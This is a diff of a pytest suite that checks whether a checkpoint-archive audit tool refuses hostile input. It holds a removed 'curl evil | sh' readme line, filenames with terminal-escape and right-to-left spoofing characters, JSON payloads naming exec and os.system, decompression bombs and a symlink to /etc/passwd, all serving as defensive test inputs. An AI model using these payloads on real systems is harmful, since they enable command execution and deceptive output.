@@ -6,35 +6,50 @@ that is attacked has nothing to say.
 
 from __future__ import annotations
 
+import errno
+import io
 import json
 import os
 import random
 import re
+import shutil
 import struct
+import subprocess
+import sys
 import tarfile
+import textwrap
+import threading
+import time
 from array import array
 from bisect import bisect_right
 from collections.abc import Callable, Sequence
+from contextlib import redirect_stderr
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any, NamedTuple
 
 import pytest
 import torch
+import typer
 import zstandard
 from blake3 import blake3
-from typer.testing import CliRunner
+from click.testing import CliRunner
 
+from ckpttool import fill
+from ckpttool.audit import ledger, plan, planes, seekable, tarball, values
 from ckpttool.audit import manifest as records
-from ckpttool.audit import plan, planes, seekable, tarball, values
 from ckpttool.audit.archive import Archive
+from ckpttool.audit.checking import check
+from ckpttool.audit.export import export, restore
+from ckpttool.audit.options import ArchiveOptions
 from ckpttool.audit.seekable import Cut, FrameWriter
 from ckpttool.audit.verification import verify_archive
-from ckpttool.cli import app
+from ckpttool.cli import _fail, app
 from ckpttool.conversion import open as open_checkpoint
 from ckpttool.crc import crc32
-from ckpttool.errors import CkpttoolError
+from ckpttool.errors import CkpttoolError, Corrupt
 from ckpttool.index import Chunks, TensorEntry, Value, joined
+from ckpttool.names import COMPONENTS
 from ckpttool.store import Source
 
 # ------------------------------------------------------------------------------------------------ archives to measure
@@ -219,16 +234,18 @@ def altered(path: Path, **change: Any) -> Path:
 
 # ------------------------------------------------------------------------------------------------ every command
 
-RUNNER = CliRunner()
+RUNNER, COMMAND = CliRunner(), typer.main.get_command(app)
 REFUSALS = {3, 4, 5, 7}
 
 
 def run(*words: object) -> tuple[int, str]:
     """(exit code, what is said) of a command, as `ckpttool` would end; what is no refusal of ours is raised."""
-    done = RUNNER.invoke(app, [str(w) for w in words])
+    done = RUNNER.invoke(COMMAND, [str(w) for w in words])
     e = done.exception
     if isinstance(e, CkpttoolError):
-        return e.exit_code, str(e)
+        with redirect_stderr(io.StringIO()) as told, pytest.raises(SystemExit):
+            _fail(e, e.exit_code)
+        return e.exit_code, told.getvalue()
     if e is not None and not isinstance(e, SystemExit):
         raise e
     return done.exit_code, done.output
@@ -238,7 +255,7 @@ def refused(*words: object) -> str:
     """A command refuses, in a line; which is returned."""
     code, said = run(*words)
     assert code in REFUSALS, (words, code, said)
-    assert words[0] == "inspect" or "\n" not in said.strip(), said  # that one lists what each layout looked for
+    assert words[0] == "inspect" or said.strip().isprintable(), said  # that one lists what each layout looked for
     return said
 
 
@@ -394,7 +411,7 @@ EVERYWHERE: dict[str, Callable[[], Kit]] = {
     "a longer end": lambda: kit(end=bytes(10240)),
     "bytes behind the end": lambda: kit(end=tarball.END + b"x" * 512),
     "a member behind the end": lambda: kit(end=tarball.END + b"".join(piece("x", b"1")[1:]) + tarball.END),
-    "another readme": lambda: kit(readme=lambda text: text + b"curl evil | sh\n"),
+    "a readme of 100 kB": lambda: kit(readme=lambda text: text + bytes(100_000)),
     # safetensors headers
     "a word in the metadata of a member": lambda: header_with(b'"format":"pt"', b'"format":"PT"'),
     "a tensor in a header by another name": lambda: header_with(b"model.twin", b"model.twiN"),
@@ -496,6 +513,13 @@ EVERYWHERE: dict[str, Callable[[], Kit]] = {
     "an order of numbers": lambda: story(order=[1]),
 }  # fmt: skip
 
+
+def named(name: str) -> Kit:
+    """A tensor of any name, whose digest is another."""
+    t = TensorEntry("float32", (3,), ("model", name), Chunks(1))
+    return kit(tensors={f"model.{name}": t}, data={f"model.{name}": bytes(12)}, digests={f"model.{name}": HASH})
+
+
 #: What a restored state does not depend on.
 KEPT: dict[str, Callable[[], Kit]] = {
     "a retention that says nothing": lambda: kit(retention=b"{}\n"),
@@ -514,6 +538,8 @@ KEPT: dict[str, Callable[[], Kit]] = {
 DATA: dict[str, Callable[[], Kit]] = {
     "a tensor with another digest": lambda: kit(digests={"model.a": HASH}),
     "a tensor without elements, with a digest": lambda: kit(digests={"model.z": HASH}),
+    "a name of two lines": lambda: named("x\x1b[2J\na.tar.zst: sound (every hash)"),
+    "a name that runs backwards": lambda: named("\u202etxet"),
     "other values": lambda: kit(values_text=lambda _: b""),
     "values that are a list": lambda: kit(values_text=lambda _: b"[]\n"),
     "values in another spelling": lambda: kit(values_text=lambda text: text.replace(b": ", b":")),
@@ -730,7 +756,13 @@ def flips(path: Path, bits: Sequence[int]) -> None:
             k = bisect_right(t.offsets, at) - 1
             start, end = t.starts[k], t.starts[k] + t.lengths[k]
             want = {
-                (n, p.member, max(p.at, start) - p.at, min(p.at + p.nbytes, end) - p.at, p.offset + max(start - p.at, 0))
+                (
+                    n,
+                    p.member,
+                    max(p.at, start) - p.at,
+                    min(p.at + p.nbytes, end) - p.at,
+                    p.offset + max(start - p.at, 0),
+                )
                 for n, p in places.items()
                 if p.at < end and start < p.at + p.nbytes
             }
@@ -759,7 +791,10 @@ def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def state_of(path: Path, tensors: int = 5, seed: int = 1, rows: int = 300) -> Path:
     g = torch.Generator().manual_seed(seed)
     model = {f"l{i}.w": torch.randn(rows, 600, generator=g) for i in range(tensors)}
-    model["half"], model["short"] = torch.randn(400, 500, generator=g).bfloat16(), torch.randn(99, generator=g).bfloat16()
+    model["half"], model["short"] = (
+        torch.randn(400, 500, generator=g).bfloat16(),
+        torch.randn(99, generator=g).bfloat16(),
+    )
     torch.save({"model": model, "step": 3, "lr": 0.1}, path)
     return path
 
@@ -774,10 +809,632 @@ def test_a_flipped_bit_anywhere(how: tuple[str, ...], tmp_path: Path, keys: Path
         t = Archive(source, path.name).table
     end, size = t.offsets[-1] + t.sizes[-1], path.stat().st_size
     dice = random.Random(len(how))
-    flips(path, [dice.randrange(a * 8, b * 8) for a, b, n in ((0, end, 90), (t.offsets[-3], end, 20), (end, size, 40)) for _ in range(n)])
+    flips(
+        path,
+        [
+            dice.randrange(a * 8, b * 8)
+            for a, b, n in ((0, end, 80), (t.offsets[-3], end, 20), (end, size, 30))
+            for _ in range(n)
+        ],
+    )
 
 
 def test_every_byte_of_a_small_archive(tmp_path: Path) -> None:
     k = Kit({"model.a": tensor("model.a", "float32", 3)}, {"model.a": noise(12, 1)})
     path = build(tmp_path / "a.tar.zst", k)
     flips(path, [8 * at + at % 8 for at in range(path.stat().st_size)])
+
+
+# ------------------------------------------------------------------------------------------------ altered consistently
+
+
+@dataclass
+class Shop:
+    """A store with an archive of a state, in a ledger, signed; and the state."""
+
+    live: Path
+    path: Path
+    root: str
+    keys: Path
+
+    def verify(self, *words: object) -> int:
+        return run("audit", "verify", self.path, "-q", "--no-ledger", *words)[0]
+
+
+@pytest.fixture
+def shop(tmp_path: Path, keys: Path) -> Shop:
+    live, path = state_of(tmp_path / "s.pt", 2), tmp_path / "store" / "a.tar.zst"
+    path.parent.mkdir()
+    assert run("audit", "export", live, path, "-q", "--sign-key", keys / "mine.pem")[0] == 0
+    out = Shop(live, path, listed(path)["facts"]["merkle_root"], keys)
+    told = (["--deep"], ["--root", out.root], ["--against", live], ["--public-key", keys / "mine.pub"])
+    assert [out.verify(*words) for words in told] == [0, 0, 0, 0]
+    return out
+
+
+def other_data(k: Kit) -> None:
+    k.data["model.short"] = bytes(len(k.data["model.short"]))
+
+
+def other_value(k: Kit) -> None:
+    held = (k.values_text or bytes)(b"")
+    assert b"0.1" in held
+    k.values_text = lambda _: held.replace(b"0.1", b"9.9")
+
+
+def other_meta(k: Kit) -> None:
+    k.provenance |= {"meta": {"who": "somebody else"}}
+
+
+def less(k: Kit) -> None:
+    del k.tensors["model.short"], k.data["model.short"]
+    k.grouped = [[n for n in names if n != "model.short"] for names in k.grouped or []]
+
+
+def lies_of_its_parts(k: Kit) -> None:
+    other_data(k)
+    k.provenance |= {"only": ["trainer"]}
+
+
+def values_alone(k: Kit) -> None:
+    k.tensors, k.data, k.grouped = {}, {}, []
+    held = {name.partition(".")[0] for name in json.loads((k.values_text or bytes)(b""))}
+    k.provenance |= {"only": sorted(held, key=COMPONENTS.index), "order": [], "tied": {}, "origin": []}
+
+
+@pytest.mark.parametrize(
+    ("act", "by_root", "by_live"),
+    [(other_data, 5, 5), (less, 5, 5), (other_value, 0, 5), (other_meta, 0, 0), (lies_of_its_parts, 5, 5)],
+)
+def test_what_is_altered_everywhere_is_told_by_what_lies_elsewhere(
+    shop: Shop, act: Callable[[Kit], None], by_root: int, by_live: int
+) -> None:
+    k = kit_of(shop.path)
+    act(k)
+    build(shop.path, k)
+    if act is lies_of_its_parts:  # which the archive itself contradicts
+        assert shop.verify() == 4
+    else:
+        assert shop.verify() == 0
+        assert shop.verify("--root", shop.root) == by_root
+        assert shop.verify("--against", shop.live) == by_live
+    assert shop.verify("--deep") in {4, 5}
+    assert shop.verify("--public-key", shop.keys / "mine.pub") in {4, 5}
+
+
+def test_an_archive_of_less_says_so_when_compared(shop: Shop) -> None:
+    k = kit_of(shop.path)
+    values_alone(k)
+    build(shop.path, k)
+    assert shop.verify() == 0
+    code, said = run("audit", "verify", shop.path, "--against", shop.live)
+    assert code == 5 or "trainer" in said  # what was compared, and that it was not all
+    assert shop.verify("--deep") == 5
+
+
+def test_signatures(shop: Shop, tmp_path: Path) -> None:
+    mine, others = shop.keys / "mine.pub", shop.keys / "other.pub"
+    assert shop.verify("--quick", "--public-key", mine) == 0
+    assert shop.verify("--public-key", others) == 5
+    second = tmp_path / "b.tar.zst"
+    assert (
+        run("audit", "export", state_of(tmp_path / "t.pt", 2, 9), second, "-q", "--sign-key", shop.keys / "mine.pem")[0]
+        == 0
+    )
+    good = shop.path.read_bytes()
+    altered(shop.path, signature=kit_of(second).signature)
+    assert (shop.verify("--public-key", mine), shop.verify("--quick", "--public-key", mine)) == (5, 5)
+    shop.path.write_bytes(good)
+    altered(shop.path, signature=None)
+    assert shop.verify("--public-key", mine) == 5
+    bundle = json.loads(kit_of(second).signature or b"")
+    for part, key, junk in [
+        ("dsseEnvelope", "payload", "AAAA"), ("dsseEnvelope", "payload", 5), ("dsseEnvelope", "signatures", []),
+        ("dsseEnvelope", "signatures", [{"sig": "AAAA"}]), ("dsseEnvelope", "payloadType", "x"),
+        ("verificationMaterial", "publicKey", {"hint": ["x"]}), ("verificationMaterial", "publicKey", {"hint": "ab"}),
+        ("verificationMaterial", "publicKey", None),
+    ]:  # fmt: skip
+        text = json.dumps(bundle | {part: bundle[part] | {key: junk}}).encode()
+        build(tmp_path / "c.tar.zst", replace(kit_of(second), signature=text))
+        assert run("audit", "verify", tmp_path / "c.tar.zst", "--public-key", mine, "-q")[0] in {3, 4, 5, 7}, junk
+
+
+def test_a_ciphertext_with_another_sidecar(tmp_path: Path) -> None:
+    pyrage = pytest.importorskip("pyrage")
+    from ckpttool.audit import sidecar
+
+    path = tmp_path / "a.tar.zst.age"
+    recipient = pyrage.x25519.Identity.generate().to_public()
+    words = ["audit", "export", state_of(tmp_path / "s.pt", 1), path, "-q", "--encrypt-to", recipient, "--retain", "1d"]
+    assert run(*words)[0] == 0
+    beside = tmp_path / "a.tar.zst.age.json"
+    good = json.loads(beside.read_text())
+    data = path.read_bytes()
+    path.write_bytes(data[:-500] + bytes(500))
+    assert run("audit", "verify", path, "-q", "--no-ledger")[0] == 4
+    with Source(tmp_path) as source:
+        found = sidecar.ciphertext(source, path.name, lambda *_: None)
+    beside.write_text(json.dumps(good | {"ciphertext": found}))
+    assert (
+        run("audit", "verify", path, "-q", "--deep", "--no-ledger")[0] == 5
+    )  # the ledger has the hash of what was exported
+    path.write_bytes(data)
+    for key, junk in [
+        ("created", 5), ("step", "x"), ("legal_hold", ["a"]), ("legal_hold", 5), ("meta", "x"), ("meta", {"run": [1]}),
+        ("components", 5), ("components", [5]), ("retain_until", 5), ("merkle_root", [1]),
+        ("manifest_sha256", None), ("tensors", "x"), ("signed", "x"), ("more", 1), ("layout", ["[/x]"]),
+    ]:  # fmt: skip
+        beside.write_text(json.dumps(good | {"archive": good["archive"] | {key: junk}}))
+        assert listed(path)["damaged"], key
+        assert listed(path)["retain_until"] == good["archive"]["retain_until"]
+        assert run("audit", "list", tmp_path)[0] == 0
+        assert json.loads(run("audit", "prune", tmp_path, "--keep-every", 1000, "--json")[1])["deleted"] == []
+    for text in (
+        json.dumps(good | {"ciphertext": {"blocks": 5}}),
+        json.dumps(good | {"ciphertext": 5}),
+        "[" * 100_000,
+        "{}",
+    ):
+        beside.write_text(text)
+        assert run("audit", "verify", path, "-q", "--no-ledger")[0] in REFUSALS
+
+
+# ------------------------------------------------------------------------------------------------ replays
+
+
+def test_what_the_ledger_retains_is_never_pruned(tmp_path: Path) -> None:
+    store = tmp_path / "store"
+    store.mkdir()
+    a, b, z = (store / f"{n}.tar.zst" for n in "abz")
+    assert (
+        run(
+            "audit",
+            "export",
+            state_of(tmp_path / "1.pt", 1, 1, 20),
+            a,
+            "-q",
+            "--retain",
+            "7y",
+            "--legal-hold",
+            "see [/x]",
+        )[0]
+        == 0
+    )
+    assert run("audit", "export", state_of(tmp_path / "2.pt", 1, 2, 20), b, "-q", "--retain", "1d")[0] == 0
+    good, later = a.read_bytes(), b.read_bytes()
+    soon = {
+        "schema": "ckpttool.retention/1",
+        "retain_until": "2026-01-03T00:00:00Z",
+        "retain": "1d",
+        "legal_hold": None,
+    }
+
+    def deleted() -> list[str]:
+        assert run("audit", "list", store)[0] == 0
+        code, said = run("audit", "prune", store, "--keep-every", 1000, "--json")
+        assert code == 0
+        return list(json.loads(said)["deleted"])
+
+    assert deleted() == []
+    altered(a, retention=None)
+    assert deleted() == []
+    altered(a, retention=json.dumps(soon, indent=1).encode() + b"\n")
+    assert deleted() == []
+    a.rename(z)  # under another name
+    assert deleted() == []
+    altered(z, provenance=kit_of(z).provenance | {"created": "2020-01-01T00:00:00Z"})  # and of another time
+    assert deleted() == []
+    z.unlink()
+    a.write_bytes(later)  # the second in the place of the first
+    assert deleted() == []
+    a.unlink()
+    b.write_bytes(good)  # the first in the place of the second, whose retention ends sooner
+    altered(b, retention=None)
+    assert deleted() == []
+    assert run("audit", "verify", b, "-q", "--deep")[0] == 5
+    assert {p.name for p in store.iterdir()} == {"b.tar.zst", "ledger.jsonl"}
+
+
+@pytest.mark.parametrize("words", [["audit", "export"], ["convert", "--to", "audit"]], ids=["export", "convert"])
+def test_nothing_replaces_what_is_held(words: list[str], tmp_path: Path) -> None:
+    state, a = state_of(tmp_path / "1.pt", 1, 1, 20), tmp_path / "a.tar.zst"
+    assert run("audit", "export", state, a, "-q", "--legal-hold", "case")[0] == 0
+    data = a.read_bytes()
+    code, said = run(words[0], *words[1:], state, a, "--force", "-q")
+    assert code in {2, 6} and "hold" in said
+    assert a.read_bytes() == data
+
+
+@pytest.mark.parametrize(
+    "facts",
+    [
+        {"event": "release", "released": 5}, {"event": "release", "released": [[1]]}, {"event": "export", "retain_until": 5},
+        {"event": "export", "legal_hold": ["x"]}, {"event": "export", "legal_hold": "[/x]"},
+        {"event": "hold", "reason": {"a": 1}}, {"event": "hold", "reason": "\x1b[2J"}, {"event": "verify", "sound": 5},
+        {"event": "export", "merkle_root": 5}, {"event": "nothing"}, {"event": "export", "manifest_sha256": [1]},
+    ],
+    ids=str,
+)  # fmt: skip
+def test_lines_of_a_ledger_that_no_run_writes(facts: dict[str, Any], tmp_path: Path) -> None:
+    path = tmp_path / "a.tar.zst"
+    assert run("audit", "export", state_of(tmp_path / "1.pt", 1, 1, 20), path, "-q", "--retain", "7y")[0] == 0
+    first = json.loads((tmp_path / "ledger.jsonl").read_text())
+    more = {k: first[k] for k in ("manifest_sha256", "created") if k not in facts}
+    ledger.append(str(tmp_path), facts["event"], path.name, **{k: v for k, v in facts.items() if k != "event"}, **more)
+    for words in (["list", tmp_path], ["prune", tmp_path, "--keep-every", 9999], ["ledger", "show", tmp_path]):
+        assert run("audit", *words)[0] in REFUSALS | {0}
+    assert run("audit", "verify", path, "--deep", "-q", "--no-ledger")[0] in REFUSALS | {0}
+    assert path.exists()
+
+
+# ------------------------------------------------------------------------------------------------ without bound
+
+LIMITED = """
+import resource, sys
+resource.setrlimit(resource.RLIMIT_CPU, (10, 10))
+resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
+from ckpttool import cli
+try:
+    cli.main()
+finally:
+    with open("/proc/self/status") as f:
+        print(next(line for line in f if line.startswith("VmHWM")).split()[1], file=sys.stderr)
+"""
+
+
+def limited(*words: object) -> str:
+    """What a command says that ends soon, in little memory, with a refusal."""
+    env = os.environ | {"OMP_NUM_THREADS": "1"}
+    # a process forked from this one would begin with this one's peak of memory
+    start = ["sh", "-c", '"$@"; exit $?', "sh", sys.executable, "-c", LIMITED, *map(str, words)]
+    done = subprocess.run(start, capture_output=True, text=True, check=False, env=env)
+    *said, peak = done.stderr.splitlines()
+    assert done.returncode in REFUSALS, (done.returncode, done.stderr[-500:])
+    assert int(peak) < 700 << 10, f"{int(peak) >> 10} MiB"
+    return "\n".join(said)
+
+
+def many_members(path: Path) -> None:
+    """40,000 members of nothing."""
+    with path.open("wb") as f:
+        w = FrameWriter(f.write, [Cut(0, 1, False)], [], level=1, jobs=1)
+        w.append(tarball.header(plan.README, 0, 0))
+        for i in range(40_000):
+            w.append(tarball.header(f"tensors-{i + 1:05d}.safetensors", 0, 0))
+        w.append(tarball.END)
+        w.finish()
+        w.close()
+
+
+def many_tables(path: Path) -> None:
+    """Bytes that seem to begin a table of half of the file, every 32."""
+    count = (1 << 20) - 9
+    unit = struct.pack("<II8sI", 0x184D2A5C, 4 * count + 16, b"CKPTCRC1", count)
+    path.write_bytes(bytes(8) + (unit + bytes(12)) * (1 << 18))
+
+
+BOMBS: dict[str, Callable[[Path], object]] = {
+    "100 MB of lists in a manifest": lambda p: build(p, kit(manifest=lambda _: b'{"tensors": [' + b"[]," * 33_000_000 + b"0]}")),
+    "100 MB of lists in values.json": lambda p: build(p, value("[" + "[]," * 33_000_000 + "0]")),
+    "100 MB of lists in a provenance": lambda p: build(p, kit(provenance_text=lambda t: t.replace(b"{}", b"[" + b"[]," * 33_000_000 + b"0]"))),
+    "50 million sums": lambda p: build(p, summed(lambda _: b"a\n" * 50_000_000)),
+    "40,000 members": many_members,
+    "tables in tables": many_tables,
+    "a hole": lambda p: (p.touch(), os.truncate(p, 1 << 26)),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BOMBS)
+def test_small_files_that_would_take_much(name: str, tmp_path: Path) -> None:
+    path = tmp_path / "a.tar.zst"
+    BOMBS[name](path)
+    limited("audit", "verify", path, "-q")
+
+
+def test_attacks_cause_no_event_by_which_a_process_acts(tmp_path: Path, canary: Path) -> None:
+    """Objects of values.json are never made, whatever they say that they are; no other archive makes anything happen."""
+    acts = f"open({str(canary)!r}, 'w').close()"
+    calls = [
+        {"$object": {"class": ["builtins", "exec"], "call": True, "args": [acts]}},
+        {"$object": {"class": ["builtins", "eval"], "state": acts}},
+        {"$object": {"class": ["os", "system"], "call": True, "args": [f"touch {canary}"]}},
+        {
+            "$object": {
+                "class": ["collections", "OrderedDict"],
+                "call": True,
+                "dict": [["a", {"$global": ["os", "system"]}]],
+            }
+        },
+        {"$global": ["os", "system"]},
+    ]
+    kits = [value(json.dumps(c)) for c in calls] + [make() for make in list((EVERYWHERE | DATA).values())[::3]]
+    paths = []
+    for i, k in enumerate(kits):
+        (tmp_path / str(i)).mkdir()
+        paths.append(str(build(tmp_path / str(i) / "a.tar.zst", k)))
+    home = tmp_path / "home"
+    home.mkdir()
+    script = """
+        import json, os, sys
+        import ckpttool, ckpttool.layouts
+        from ckpttool.audit.checking import check
+        from ckpttool.audit.shelf import listing
+        ckpttool.layouts.layouts()
+        home, paths = sys.argv[1], json.load(sys.stdin)
+        for first in (True, False):  # what is imported lazily is imported in the first round
+            events, listening = [], False
+            def hook(event, args):
+                if not listening:
+                    return
+                if event == "open" and (set(args[1] or "") & set("wax+") or args[2] & (os.O_WRONLY | os.O_RDWR)):
+                    if not str(args[0]).startswith(home):
+                        events.append([event, str(args)])
+                elif event in ("exec", "compile", "import", "os.system", "os.exec", "os.fork", "os.posix_spawn", "subprocess.Popen",
+                               "pickle.find_class", "marshal.loads", "socket.connect", "os.symlink", "os.link", "os.chmod"):
+                    events.append([event, str(args)[:200]])
+                elif event in ("os.rename", "os.remove", "os.mkdir", "shutil.rmtree"):
+                    inside = event == "os.remove" and args[1] != -1  # of a folder that shutil.rmtree was given
+                    if not inside and not str(args[0]).startswith(home):
+                        events.append([event, str(args)[:200]])
+            if first:
+                sys.addaudithook(lambda e, a: hook(e, a))
+            for i, path in enumerate(paths):
+                listening = not first
+                for act in (
+                    lambda: check(path), lambda: ckpttool.inspect(path), lambda: listing(os.path.dirname(path)),
+                    lambda: ckpttool.convert(path, f"{home}/{first}{i}.pt", to="full", drop=True),
+                    lambda: ckpttool.convert(path, f"{home}/{first}{i}", to="dcp", world_size=2, drop=True),
+                ):
+                    try:
+                        act()
+                    except ckpttool.CkpttoolError:
+                        pass
+                listening = False
+        print(json.dumps(events))
+    """
+    done = subprocess.run(
+        [sys.executable, "-c", textwrap.dedent(script), str(home)], input=json.dumps(paths), capture_output=True,
+        text=True, check=False,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert json.loads(done.stdout) == []
+    assert not canary.exists()
+
+
+# ------------------------------------------------------------------------------------------------ interrupted, raced
+
+JOURNALLED = """
+from ckpttool import cli, fill
+fill._JOURNAL_BYTES, fill._JOURNAL_SECONDS = 1, 0
+cli.main()
+"""
+
+
+def test_killed_at_any_time(tmp_path: Path) -> None:
+    state = state_of(tmp_path / "s.pt", 16, rows=1000)
+    words = [
+        "audit",
+        "export",
+        str(state),
+        "a.tar.zst",
+        "--member-size",
+        "2MB",
+        "--shuffle",
+        "--reproducible",
+        "-q",
+        "--json",
+    ]
+
+    def start(folder: Path) -> subprocess.Popen[str]:
+        return subprocess.Popen(
+            [sys.executable, "-c", JOURNALLED, *words],
+            cwd=folder,
+            text=True,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+        )
+
+    def finished(folder: Path) -> Any:
+        process = start(folder)
+        out, err = process.communicate()
+        assert process.returncode == 0, err
+        return json.loads(out)
+
+    whole, folder = tmp_path / "whole", tmp_path / "k"
+    whole.mkdir()
+    began = time.monotonic()
+    finished(whole)
+    takes = time.monotonic() - began
+    want = (whole / "a.tar.zst").read_bytes()
+    dice, continued = random.Random(4), 0
+    for k in range(6):
+        folder.mkdir()
+        process = start(folder)
+        time.sleep(dice.uniform(0.5, 0.95) * takes if k else 0.4 * takes)
+        process.kill()
+        process.communicate()
+        if not (folder / "a.tar.zst").exists():
+            continued += any("continued" in n for n in finished(folder)["notes"])
+        assert (folder / "a.tar.zst").read_bytes() == want
+        assert {p.name for p in folder.iterdir()} <= {"a.tar.zst", "ledger.jsonl"}
+        shutil.rmtree(folder)
+    assert continued
+
+
+@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EIO], ids=["ENOSPC", "EIO"])
+def test_a_call_that_fails(error: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(fill, "_JOURNAL_BYTES", 1)
+    how = ArchiveOptions(reproducible=True, shuffle=True, member_bytes=1 << 20)
+    state = str(state_of(tmp_path / "s.pt", 3))
+    want, dst = tmp_path / "want.tar.zst", tmp_path / "k" / "want.tar.zst"
+    dst.parent.mkdir()
+    export(state, str(want), how, in_ledger=False)
+    failed, n, threads = 0, 1, threading.active_count()
+    names = ["write", "pwrite", "fsync", "mkdir", "ftruncate", *(["preadv", "pread"] if error == errno.EIO else [])]
+    while True:
+        count = 0
+
+        def counted(real: Any, n: int = n) -> Any:
+            def call(*args: Any, **how: Any) -> Any:
+                nonlocal count
+                count += 1
+                if count == n:
+                    raise OSError(error, os.strerror(error))
+                return real(*args, **how)
+
+            return call
+
+        with monkeypatch.context() as m:
+            for name in names:
+                m.setattr(os, name, counted(getattr(os, name)))
+            try:
+                export(state, str(dst), how, in_ledger=False)
+            except CkpttoolError:
+                failed += 1
+        if count < n:
+            break
+        if not dst.exists():
+            export(state, str(dst), how, in_ledger=False)
+        assert dst.read_bytes() == want.read_bytes(), n
+        assert threading.active_count() == threads
+        dst.unlink()
+        n += 3
+    assert failed > 5
+
+
+def replaced(path: Path, by: Path) -> None:
+    shutil.copy(by, path.parent / "new")
+    os.replace(path.parent / "new", path)
+
+
+def overwritten(path: Path, by: Path) -> None:
+    with path.open("r+b") as f:
+        f.write(by.read_bytes())
+
+
+def cut_off(path: Path, by: Path) -> None:
+    os.truncate(path, 1000)
+
+
+def removed(path: Path, by: Path) -> None:
+    path.unlink()
+
+
+@pytest.mark.parametrize("act", [replaced, overwritten, cut_off, removed])
+def test_what_changes_while_it_is_read(act: Callable[[Path, Path], None], tmp_path: Path) -> None:
+    first, second = state_of(tmp_path / "1.pt", 3, 1), state_of(tmp_path / "2.pt", 3, 2)
+    for p in (first, second):
+        export(str(p), str(p.with_suffix(".tar.zst")), ArchiveOptions(), in_ledger=False)
+    home = tmp_path / "home"
+    home.mkdir()
+
+    def meanwhile(path: Path, by: Path) -> Callable[[str, int, int], None]:
+        done: list[str] = []
+
+        def hook(what: str, n: int, total: int) -> None:
+            if what in ("copy", "verify") and 2 * n >= total and not done:
+                done.append(what)
+                act(path, by)
+
+        return hook
+
+    victim, victim2 = tmp_path / "v.pt", tmp_path / "v.tar.zst"
+    shutil.copy(first, victim)
+    with pytest.raises(Corrupt):
+        export(
+            str(victim), str(home / "a.tar.zst"), ArchiveOptions(), in_ledger=False, progress=meanwhile(victim, second)
+        )
+    shutil.copy(first.with_suffix(".tar.zst"), victim2)
+    hook = meanwhile(victim2, second.with_suffix(".tar.zst"))
+    with pytest.raises(Corrupt):
+        restore(str(victim2), home / "d", to="dcp", world_size=2, progress=hook)
+    shutil.copy(first.with_suffix(".tar.zst"), victim2)
+    try:
+        assert check(
+            str(victim2), in_ledger=False, progress=meanwhile(victim2, second.with_suffix(".tar.zst"))
+        ).findings
+    except Corrupt:
+        pass
+    assert list(home.iterdir()) == []
+
+
+# ------------------------------------------------------------------------------------------------ what makes no sense
+
+
+def test_options_that_make_no_sense(tmp_path: Path) -> None:
+    state, a = state_of(tmp_path / "s.pt", 1, 1, 20), tmp_path / "a.tar.zst"
+    nowhere = tmp_path / "nowhere"
+    for more in (
+        ["--meta", "x"], ["--meta", "=x"], ["--meta", "a=1", "--meta", "a=2"], ["--retain", "2001-01-01"],
+        ["--retain", "0d"], ["--retain", "soon"], ["--retain", "999999y"], ["--retain", ""], ["--level", "0"],
+        ["--level", "20"], ["--level", "x"], ["--member-size", "-1"], ["--member-size", "nan"], ["--member-size", "1e400"],
+        ["--member-size", "1KB"], ["--member-size", ""], ["--lock-mode", "x"], ["--sign-cert", "x"], ["--cert-chain", "x"],
+        ["--sign-key", nowhere], ["--sign-key", tmp_path], ["--sign-key", state], ["--sign-key", ""],
+        ["--encrypt-to", "nonsense"], ["--legal-hold", " "], ["--jobs", "0"], ["--max-memory", "x"], ["--max-memory", "1"],
+        ["--only", "evil"], ["--dtype", "x"], ["--from", "x"],
+    ):  # fmt: skip
+        assert run("audit", "export", state, a, "-q", *more)[0] == 2, more
+    sealed = tmp_path / "a.tar.zst.age"
+    for dst, more in [
+        (sealed, []), (sealed, ["--encrypt-to", "age1qqqq"]), (sealed, ["--encrypt-to", nowhere]), (tmp_path / "a.tar", []),
+        (nowhere / "a.tar.zst", []), (sealed, ["--encrypt-to", ""]),
+    ]:  # fmt: skip
+        assert run("audit", "export", state, dst, "-q", *more)[0] == 2, (dst, more)
+    assert set(os.listdir(tmp_path)) == {"s.pt"}
+    assert run("audit", "export", state, a, "-q")[0] == 0
+    for words in (
+        ["verify", "--quick", "--deep", a], ["verify", "--quick", "--root", "0" * 64, a], ["verify", tmp_path],
+        ["verify", a, "--root", "zz"], ["verify", a, "--root", ""], ["prune", tmp_path], ["prune", tmp_path, "--keep-last", 0],
+        ["prune", tmp_path, "--keep-within", "x"], ["prune", tmp_path, "--keep-within", "0d"], ["hold", a, " "],
+        ["release", a, "x"], ["hold", nowhere, "x"], ["ledger", "verify", nowhere], ["ledger", "verify", tmp_path, "--head", "x"],
+        ["restore", a, nowhere], ["export", a, a],
+    ):  # fmt: skip
+        assert run("audit", *words)[0] == 2, words
+
+
+def test_files_that_are_no_archives(tmp_path: Path) -> None:
+    (tmp_path / "empty.tar.zst").touch()
+    (tmp_path / "short.tar.zst").write_bytes(b"x" * 100)
+    (tmp_path / "folder.tar.zst").mkdir()
+    os.mkfifo(tmp_path / "pipe.tar.zst")
+    (tmp_path / "out").write_bytes(b"")
+    os.symlink("/etc/passwd", tmp_path / "link.tar.zst")
+    os.symlink("loop.tar.zst", tmp_path / "loop.tar.zst")
+    (tmp_path / "[red]x[/y].tar.zst").mkdir(parents=True)
+    for path in [p for p in tmp_path.iterdir() if p.name.endswith(".tar.zst")]:
+        for words in (["audit", "verify"], ["audit", "verify", "--quick"], ["inspect"]):
+            assert run(*words, path)[0] in REFUSALS | {2}, (words, path)
+    for words in (["list", tmp_path], ["list", tmp_path, "--json"], ["prune", tmp_path, "--keep-last", 1]):
+        assert run("audit", *words)[0] == 0
+    assert (tmp_path / "empty.tar.zst").exists()
+
+
+def test_names_and_words_that_are_no_utf_8(tmp_path: Path) -> None:
+    odd = os.fsdecode(b"\xff")
+    folder = tmp_path / f"src{odd}"
+    try:
+        folder.mkdir()
+    except OSError:
+        pytest.skip("the file system wants UTF-8")
+    state, a = state_of(folder / "s.pt", 1, 1, 20), tmp_path / "a.tar.zst"
+    words = ["--meta", f"k={odd}", "--git-commit", odd, "--legal-hold", odd]
+    assert run("audit", "export", state, a, "-q", "--no-verify", *words)[0] == 0
